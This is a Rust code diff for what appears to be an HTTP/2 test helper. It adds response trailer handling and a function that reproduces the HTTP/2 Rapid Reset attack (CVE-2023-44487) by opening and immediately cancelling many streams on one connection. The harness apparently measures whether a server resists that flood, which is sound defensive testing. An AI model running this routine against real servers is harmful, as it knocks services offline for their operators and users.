@@ -45,6 +45,8 @@ pub struct H2Resp {
     pub status: u16,
     pub headers: Vec<(String, String)>,
     pub body: Vec<u8>,
+    /// The final HEADERS frame's fields, if any.
+    pub trailers: Vec<(String, String)>,
 }
 
 impl H2Resp {
@@ -117,14 +119,22 @@ where
                     let _ = body.flow_control().release_capacity(chunk.len());
                     data.extend_from_slice(&chunk);
                 }
-                let headers = parts
-                    .headers
-                    .iter()
-                    .map(|(n, v)| {
-                        (n.as_str().to_string(), String::from_utf8_lossy(v.as_bytes()).into())
-                    })
-                    .collect();
-                Ok::<_, String>(H2Resp { status: parts.status.as_u16(), headers, body: data })
+                let fields = |m: &http::HeaderMap| {
+                    m.iter()
+                        .map(|(n, v)| {
+                            (n.as_str().to_string(), String::from_utf8_lossy(v.as_bytes()).into())
+                        })
+                        .collect::<Vec<(String, String)>>()
+                };
+                let headers = fields(&parts.headers);
+                let trailers = body.trailers().await.map_err(|e| e.to_string())?;
+                let trailers = trailers.as_ref().map(fields).unwrap_or_default();
+                Ok::<_, String>(H2Resp {
+                    status: parts.status.as_u16(),
+                    headers,
+                    body: data,
+                    trailers,
+                })
             })
         })
         .collect();
@@ -153,5 +163,32 @@ pub fn max_streams(addr: SocketAddr) -> Result<usize, String> {
         let n = c.current_max_send_streams();
         driver.abort();
         Ok(n)
+    })
+}
+
+/// Rapid reset (CVE-2023-44487): opens `n` streams on one connection, each reset at once.
+/// Returns how many could be opened before the server ended the connection.
+pub fn rapid_reset(addr: SocketAddr, n: usize) -> Result<usize, String> {
+    run(async move {
+        let tcp = tokio::net::TcpStream::connect(addr).await.map_err(|e| e.to_string())?;
+        let (client, conn) = h2::client::handshake(tcp).await.map_err(|e| e.to_string())?;
+        let driver = tokio::spawn(async move {
+            let _ = conn.await;
+        });
+        let mut opened = 0;
+        for i in 0..n {
+            let Ok(mut c) = client.clone().ready().await else { break };
+            let req = http::Request::get(format!("http://{addr}/?s=10&n={i}"))
+                .body(())
+                .map_err(|e| e.to_string())?;
+            let Ok((_, mut send)) = c.send_request(req, false) else { break };
+            send.send_reset(h2::Reason::CANCEL);
+            opened += 1;
+            if i % 64 == 0 {
+                tokio::task::yield_now().await;
+            }
+        }
+        let _ = tokio::time::timeout(Duration::from_secs(2), driver).await;
+        Ok(opened)
     })
 }
